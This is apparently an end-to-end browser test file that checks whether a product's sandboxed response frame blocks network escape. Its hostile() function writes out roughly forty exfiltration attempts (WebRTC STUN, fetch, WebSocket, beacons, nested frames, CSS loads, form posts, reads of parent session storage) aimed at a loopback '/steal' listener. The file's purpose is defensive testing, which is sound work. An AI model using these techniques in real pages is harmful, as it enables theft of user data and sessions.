"""A hostile response reaches no network from its frame: not WebRTC, not a fresh frame, not any other channel
(issue 12, fault 3). Real listeners on loopback count what arrives: UDP datagrams (STUN), TCP connections and HTTP
requests. A control run of the same hostile code in an unprotected frame shows the listeners do hear it.
"""

from __future__ import annotations

import html
import http.server
import json
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect
from tests.e2e.flows import add_key, sign_in
from tests.e2e.support import Miner, WorkerApi, simple_response

pytestmark = pytest.mark.browser


class Listeners:
    """A UDP socket (STUN binding requests) and an HTTP server counting TCP connections and requests, on 127.0.0.1."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.1)
        self.udp_port = self.udp.getsockname()[1]
        self.datagrams = 0
        self.connections = 0
        self.requests: list[str] = []
        self.control_page = b""  # served at /control, not counted: the control test's unprotected page
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _hit(self) -> None:
                if self.path == "/control":
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.end_headers()
                    self.wfile.write(outer.control_page)
                    return
                outer.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>leaked</p>")

            do_GET = do_POST = do_PUT = do_OPTIONS = _hit  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        class Server(http.server.ThreadingHTTPServer):
            def verify_request(self, request: Any, client_address: Any) -> bool:
                outer.connections += 1  # a connection is already a leak (address, time), request or not
                return True

        self.http = Server(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self.http.serve_forever, daemon=True),
            threading.Thread(target=self._count_udp, daemon=True),
        ]

    def _count_udp(self) -> None:
        while not self._stop.is_set():
            try:
                self.udp.recvfrom(4096)
                self.datagrams += 1
            except OSError:
                continue

    def heard(self) -> dict[str, Any]:
        return {"udp": self.datagrams, "tcp": self.connections, "http": list(self.requests)}

    def __enter__(self) -> Listeners:
        for t in self._threads:
            t.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self.http.shutdown()
        self.http.server_close()
        for t in self._threads:
            t.join(timeout=5)
        self.udp.close()


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    with Listeners() as heard:
        yield heard


def js_str(text: str) -> str:
    """A JS string literal that is safe inside a <script> element."""
    return json.dumps(text).replace("</", "<\\/")


def hostile(other: str, udp_port: int) -> str:
    """A response that tries every way out it can think of and writes what each try gave into its own page."""
    ws = other.replace("http://", "ws://")
    rtc = (
        f"const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp_port}'}}]}});"
        " pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o))"
    )
    rtc_doc = f"<script>try {{ {rtc} }} catch (e) {{}}</script>"
    nested_markup = f"<iframe srcdoc='{html.escape(rtc_doc, quote=True)}'></iframe>"
    tries = {  # name -> the body of an async function; what it returns (or throws) is written into the page
        "webrtc": f"{rtc}; return 'made'",
        "webrtc_prefixed": "new webkitRTCPeerConnection({}); return 'made'",
        "webrtc_datachannel": "return typeof RTCDataChannel",
        "nested_srcdoc": f"const f = document.createElement('iframe'); f.srcdoc = {js_str(rtc_doc)};"
        " document.body.append(f); return 'made'",
        "nested_setattribute": f"const f = document.createElement('iframe'); f.setAttribute('srcdoc', {js_str(rtc_doc)});"
        " document.body.append(f); return 'made'",
        "nested_innerhtml": f"const d = document.createElement('div'); d.innerHTML = {js_str(nested_markup)};"
        " document.body.append(d); return d.firstElementChild.localName",
        "nested_data_url": "const f = document.createElement('iframe'); f.src = 'data:text/html,' + "
        f"encodeURIComponent({js_str(rtc_doc)}); document.body.append(f); return 'made'",
        "nested_http": f"const f = document.createElement('iframe'); f.src = '{other}/steal?via=frame';"
        " document.body.append(f); return 'made'",
        "nested_grab": "const f = document.createElement('iframe'); document.body.append(f);"
        " return typeof f.contentWindow.RTCPeerConnection",
        "nested_namespaced": "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe');"
        f" f.src = '{other}/steal?via=ns'; document.body.append(f); return 'made'",
        "nested_as_document": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml',"
        f" 'iframe', null); const f = document.adoptNode(d.documentElement); f.src = '{other}/steal?via=doc';"
        " document.body.append(f); return 'made'",
        "nested_custom_element": "class F extends HTMLIFrameElement {}"
        " customElements.define('x-frame', F, {extends: 'iframe'});"
        f" const f = new F(); f.src = '{other}/steal?via=custom'; document.body.append(f); return 'made'",
        "exec_command": "const d = document.createElement('div'); d.contentEditable = 'true'; document.body.append(d);"
        f" d.focus(); document.execCommand('insertHTML', false, {js_str(nested_markup)});"
        " return d.querySelector('iframe') ? 'made' : 'inert'",
        "parse_html_unsafe": f"const doc = Document.parseHTMLUnsafe({js_str(nested_markup)});"
        " const n = document.adoptNode(doc.body.firstElementChild); document.body.append(n); return n.localName",
        "xml_prefixed_frame": "const x = new DOMParser().parseFromString("
        + js_str(
            f"<r xmlns:h='http://www.w3.org/1999/xhtml'><h:iframe srcdoc='{html.escape(rtc_doc, quote=True)}'/></r>"
        )
        + ", 'application/xml'); const n = document.adoptNode(x.documentElement.firstChild);"
        " document.body.append(n); return n.localName",
        "split_write": "document.write('<ifr'); document.write('ame>'); return 'written'",
        "xslt": "new XSLTProcessor(); return 'made'",
        "fetch": f"return (await fetch('{other}/steal?via=fetch', {{mode: 'no-cors'}})).type",
        "xhr": f"const x = new XMLHttpRequest(); x.open('GET', '{other}/steal?via=xhr'); x.send(); return 'sent'",
        "websocket": f"return await new Promise((ok, bad) => {{ const w = new WebSocket('{ws}/steal');"
        " w.onopen = () => ok('open'); w.onerror = () => bad({name: 'WsError'}); })",
        "eventsource": f"new EventSource('{other}/steal?via=sse'); return 'made'",
        "beacon": f"return navigator.sendBeacon('{other}/steal?via=beacon', 'x') ? 'queued' : 'refused'",
        "image": "return await new Promise((ok, bad) => { const i = new Image(); i.onload = () => ok('loaded');"
        f" i.onerror = () => bad({{name: 'ImageError'}}); i.src = '{other}/steal?via=img'; }})",
        "worker": f"new Worker('{other}/steal?via=worker'); return 'made'",
        "blob_worker": f"new Worker(URL.createObjectURL(new Blob([\"fetch('{other}/steal?via=blobworker')\"])));"
        " return 'made'",
        "dynamic_import": f"await import('{other}/steal?via=import'); return 'loaded'",
        "popup": f"const w = window.open('{other}/steal?via=popup'); if (!w) throw {{name: 'NoPopup'}}; return 'opened'",
        "top_navigation": f"top.location.href = '{other}/steal?via=top'; return 'navigated'",
        "parent_storage": "return top.localStorage.getItem('dojo.session')",
        "parent_document": "return parent.document.body.innerHTML",
        "own_storage": "return localStorage.length",
        "form_post": f"const f = document.createElement('form'); f.method = 'post'; f.action = '{other}/steal?via=form';"
        " document.body.append(f); f.submit(); return 'submitted'",
    }
    script = "\n".join(f"await tryIt({json.dumps(name)}, async () => {{ {code} }});" for name, code in tries.items())
    markup = (
        f"<link rel=stylesheet href='{other}/steal?via=css'><link rel=prefetch href='{other}/steal?via=prefetch'>"
        f"<link rel=preload as=fetch href='{other}/steal?via=preload'><link rel=preconnect href='{other}'>"
        f"<link rel=dns-prefetch href='{other}'><link rel=modulepreload href='{other}/steal?via=modulepreload'>"
        f"<style>@import '{other}/steal?via=import-css'; body {{ background: url({other}/steal?via=bg); }}"
        f" @font-face {{ font-family: x; src: url({other}/steal?via=font); }} h3 {{ font-family: x; }}</style>"
        f'<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{other}/steal?via=spec"]}}]}}'
        "</script>"
        f"<img src='{other}/steal?via=tag'><video src='{other}/steal?via=video'></video>"
        f"<svg><image href='{other}/steal?via=svg'/></svg>{nested_markup}"
        f"<object data='{other}/steal?via=object'></object><embed src='{other}/steal?via=embed'>"
        f"<form method=post action='{other}/steal?via=static-form'><button id=send>send</button></form>"
    )
    return (
        f"<!doctype html><html><head>{markup}</head><body><h3>Totally normal answer</h3><pre id=out>running</pre>"
        "<script>\nconst out = {};\n"
        "const tryIt = async (name, fn) => { try { out[name] = 'GOT ' + String(await fn()).slice(0, 60); }"
        " catch (e) { out[name] = 'blocked: ' + (e && e.name); } };\n"
        f"(async () => {{\n{script}\ndocument.getElementById('out').textContent = JSON.stringify(out);\n"
        "document.body.dataset.done = '1';\n})();\n</script></body></html>"
    )


def settle(listeners: Listeners, seconds: float = 3.0) -> None:
    """Give stray packets and connections time to arrive (the assertions that follow are about absence)."""
    time.sleep(seconds)


def test_a_hostile_response_reaches_no_network(
    page: Any, worker_api: WorkerApi, miner: Miner, listeners: Listeners
) -> None:
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    contents = [hostile(listeners.url, listeners.udp_port)] + [simple_response(f"Fine {i}", "#eef") for i in range(2)]
    task_id, _ = miner.create_task(contents, prompt="A task with one hostile answer", expire_in_s=1200)
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")
    frame = page.frame_locator("iframe.response-frame").nth(0)
    expect(frame.locator("body")).to_have_attribute("data-done", "1", timeout=20_000)
    got = json.loads(frame.locator("#out").text_content() or "{}")
    settle(listeners)
    assert listeners.heard() == {"udp": 0, "tcp": 0, "http": []}, listeners.heard()
    # what the response itself saw: the WebRTC interfaces are gone, and no frame it makes has a document of its own
    assert got["webrtc"] == "blocked: ReferenceError" and got["webrtc_prefixed"] == "blocked: ReferenceError", got
    assert got["webrtc_datachannel"] == "GOT undefined" and got["xslt"] == "blocked: ReferenceError", got
    for name in (
        "nested_srcdoc",
        "nested_setattribute",
        "nested_data_url",
        "nested_http",
        "nested_grab",
        "nested_namespaced",
        "nested_as_document",
        "nested_custom_element",
        "split_write",
    ):
        assert got[name] == "blocked: TypeError", (name, got[name])
    assert got["nested_innerhtml"] == "GOT dojo-blocked-iframe", got  # the markup's <iframe> became inert
    assert got["xml_prefixed_frame"] in ("GOT dojo-blocked-iframe", "blocked: TypeError"), got
    assert got["parse_html_unsafe"] == "GOT dojo-blocked-iframe" and got["exec_command"] == "GOT inert", got
    assert got["parent_document"] == "blocked: SecurityError" and got["own_storage"] == "blocked: SecurityError", got
    assert frame.locator("iframe, frame, object, embed").count() == 0
    assert page.url == f"{base}/#/task/{task_id}" and len(page.context.pages) == 1  # no top navigation, no popup
    # and the other responses work
    page.frame_locator("iframe.response-frame").nth(1).locator("#b").click()
    expect(page.frame_locator("iframe.response-frame").nth(1).locator("#b")).to_have_text("clicks: 1")


def test_the_listeners_hear_the_same_code_in_an_unprotected_frame(browser: Any, listeners: Listeners) -> None:
    """The control: without the product's frame, the same response reaches both listeners."""
    context = browser.new_context()
    try:
        page = context.new_page()
        doc = hostile(listeners.url, listeners.udp_port)
        listeners.control_page = (
            f"<iframe sandbox='allow-scripts' srcdoc=\"{html.escape(doc, quote=True)}\"></iframe>".encode()
        )
        page.goto(f"{listeners.url}/control")
        expect(page.frame_locator("iframe").locator("body")).to_have_attribute("data-done", "1", timeout=20_000)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and not (listeners.datagrams and listeners.requests):
            time.sleep(0.1)
        assert listeners.datagrams > 0, "no STUN packet from an unprotected frame: the UDP check would prove nothing"
        assert any("via=fetch" in r for r in listeners.requests), listeners.requests
    finally:
        context.close()


def test_a_response_that_navigates_is_stopped_with_words_that_say_so(
    page: Any, worker_api: WorkerApi, miner: Miner, listeners: Listeners
) -> None:
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    leaving = (
        "<!doctype html><p>One moment…</p><script>setTimeout(() => { location.href = "
        + js_str(f"{listeners.url}/steal?via=navigation")
        + " }, 300)</script>"
    )
    data_leaving = (
        "<!doctype html><p>Elsewhere…</p><script>setTimeout(() => { location.href = 'data:text/html,' + "
        + f"encodeURIComponent({js_str('<script>new RTCPeerConnection()</script>')}) }}, 300)</script>"
    )
    task_id, _ = miner.create_task(
        [leaving, data_leaving, simple_response("Fine", "#eef")], prompt="Answers that leave"
    )
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")
    for letter in "AB":
        notice = page.locator(".response", has=page.get_by_role("heading", name=f"Response {letter}")).locator(
            ".frame-stuck"
        )
        expect(notice).to_contain_text(f"Response {letter} tried to open another page", timeout=15_000)
        expect(notice).not_to_contain_text("loop")
        expect(page.get_by_role("button", name=f"Show Response {letter} again")).to_be_visible()
    page.frame_locator("iframe.response-frame").nth(0).locator("#b").click()  # Fine is the one frame left
    expect(page.frame_locator("iframe.response-frame").nth(0).locator("#b")).to_have_text("clicks: 1")
    settle(listeners, 1.0)
    # Blocked by the page's frame-src 'none' before any request is sent. Chromium 156 still opens (and drops) a
    # TCP connection to the target first — a preconnect at navigation start that no page setting controls; see
    # the README's security notes.
    assert listeners.requests == [] and listeners.datagrams == 0, listeners.heard()
